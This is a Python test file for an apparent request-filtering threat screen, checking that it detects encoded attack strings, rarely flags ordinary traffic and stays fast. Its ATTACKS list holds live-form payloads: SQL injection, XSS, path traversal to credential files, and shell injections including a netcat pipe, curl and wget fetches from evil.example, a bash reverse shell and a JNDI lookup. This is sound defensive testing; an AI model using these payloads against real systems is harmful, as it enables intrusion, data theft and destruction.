"""The threat screen: what it must find, how often it is wrong on ordinary traffic, and that nothing blows it up."""

from __future__ import annotations

import time
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spork.domain.security.threat_rules import MAX_TEXT, RULES, Rule, Screen, harmless, texts_of_query
from tests.ordinary_traffic import ordinary

SCREEN = Screen()

ATTACKS = [
    ("sql", "1' OR '1'='1"),
    ("sql", "1' or 1=1--"),
    ("sql", "admin'--"),
    ("sql", "admin' #' OR 'x'='x"),
    ("sql", "') OR ('1'='1"),
    ("sql", "1) or 1=1"),
    ("sql", "' UNION SELECT username, password FROM users--"),
    ("sql", "1 UNION ALL SELECT NULL,NULL,NULL"),
    ("sql", "1 UNION/**/SELECT 1"),
    ("sql", "-1 union distinct select 1,2,3"),
    ("sql", "1; DROP TABLE users"),
    ("sql", "x'; DELETE FROM orders; --"),
    ("sql", "1; EXEC xp_cmdshell('dir')"),
    ("sql", "1 AND SLEEP(5)"),
    ("sql", "1;SELECT pg_sleep(10)"),
    ("sql", "'; WAITFOR DELAY '0:0:5'--"),
    ("sql", "1 AND 1=1 UNION SELECT table_name FROM information_schema.tables"),
    ("sql", "select * from sqlite_master"),
    ("sql", "1 AND extractvalue(1,concat(0x7e,version()))"),
    ("sql", "' order by 5--"),
    ("sql", "' INTO OUTFILE '/tmp/x"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<ScRiPt src=//evil.example/x.js>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "<svg onload=alert(1)>"),
    ("xss", "<body onload=alert(1)>"),
    ("xss", '" onmouseover="alert(1)'),
    ("xss", "' onfocus=alert(1) autofocus='"),
    ("xss", "<iframe src=javascript:alert(1)>"),
    ("xss", "javascript:alert(document.cookie)"),
    ("xss", "data:text/html;base64,PHNjcmlwdD4="),
    ("xss", "<details open ontoggle=alert(1)>"),
    ("xss", '"><img src=x onerror=prompt(1)>'),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\windows\\win.ini"),
    ("traversal", "/etc/passwd"),
    ("traversal", "/etc/shadow"),
    ("traversal", "....//....//etc/passwd"),
    ("traversal", "/proc/self/environ"),
    ("traversal", "c:\\windows\\system32\\drivers\\etc\\hosts"),
    ("traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("traversal", "file:///etc/passwd"),
    ("shell", "; cat /etc/hostname"),
    ("shell", "x; ls -la"),
    ("shell", "127.0.0.1; id"),
    ("shell", "127.0.0.1 && whoami"),
    ("shell", "x | nc evil.example 4444"),
    ("shell", "| cat /flag"),
    ("shell", "$(whoami)"),
    ("shell", "$(curl evil.example/x)"),
    ("shell", "`id`"),
    ("shell", "; wget http://evil.example/x"),
    ("shell", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
    ("shell", "; /bin/sh -i"),
    ("shell", "${jndi:ldap://evil.example/a}"),
    ("shell", "() { :; }; echo vulnerable"),
]


@pytest.mark.parametrize(("family", "text"), ATTACKS)
@pytest.mark.parametrize("written", ["plain", "encoded", "encoded twice", "capitals", "spread"])
def test_attacks_are_found_however_they_are_written(family: str, text: str, written: str) -> None:
    if written == "encoded":
        text = quote_plus(text)
    elif written == "encoded twice":
        text = quote(quote(text))
    elif written == "capitals":
        text = text.upper()
    elif written == "spread":
        text = text.replace(" ", "  \t\n ")
    hit = SCREEN.look(text, "query")
    assert hit is not None
    if written == "plain":
        assert hit.place == "query"


def test_each_family_is_found_as_such() -> None:
    found = [(family, SCREEN.look(text, "body")) for family, text in ATTACKS]
    same = sum(hit is not None and hit.family == family for family, hit in found)
    assert same >= len(ATTACKS) * 0.85


#: How many of the ordinary texts may be taken for attacks.
KNOWN_WRONG = 0


def test_false_positives_on_ordinary_traffic() -> None:
    """Measured on texts people and programs send; rules were written knowing these, so docs/request-security.md also
    gives a rate on texts they were not (`bench/screen.py`)."""
    texts = ordinary()
    wrong = [(place, text, hit.rule) for place, text in texts if (hit := SCREEN.look(text, place)) is not None]
    rate = len(wrong) / len(texts)
    print(f"\n{len(wrong)} of {len(texts)} ordinary texts are taken for attacks ({rate:.1%}):")
    for place, text, rule in wrong:
        print(f"  {place}: {rule}: {text[:80]!r}")
    assert len(wrong) <= KNOWN_WRONG
    assert len(texts) >= 300


def test_harmless_texts_are_not_looked_at() -> None:
    """The shortcut must never hide an attack."""
    for _, text in ATTACKS:
        assert not harmless(text.encode())
        assert not harmless(quote(text).encode())
    assert harmless(b"red-shoes_9,5.x@example.com")
    assert list(texts_of_query(b"a=1&b=red+shoes&c=%27")) == ["red+shoes", "%27"]


@pytest.mark.parametrize(
    "piece",
    ["'", "' or ", "union ", "<", "<img ", "../", "; ", "%25", "%2525", "a", "(", "| ", "$(", "\\", "'\"><", "é"],
)
def test_no_text_costs_more_than_its_length(piece: str) -> None:
    """Ten times the text takes about ten times as long, and a full-sized one no time to speak of."""

    def seconds(length: int) -> float:
        text = (piece * length)[:length]
        best = float("inf")
        for _ in range(3):
            began = time.process_time()
            SCREEN.look(text, "body")
            best = min(best, time.process_time() - began)
        return best

    assert seconds(MAX_TEXT) < max(40 * seconds(MAX_TEXT // 10), 0.001)
    assert seconds(MAX_TEXT) < 1.0


@given(st.text(max_size=300))
def test_no_text_breaks_it(text: str) -> None:
    SCREEN.look(text, "body")


def test_rules_can_be_read() -> None:
    """Unique names, known families, and a beginning of their own: what `look` finds rules by."""
    assert len({rule.name for rule in RULES}) == len(RULES)
    assert {rule.family for rule in RULES} == {"sql", "xss", "traversal", "shell"}
    assert all(len(rule.words.split()) <= 12 for rule in RULES)
    with pytest.raises(ValueError, match="begin"):
        Screen((Rule("bad", "sql", "* x"),))
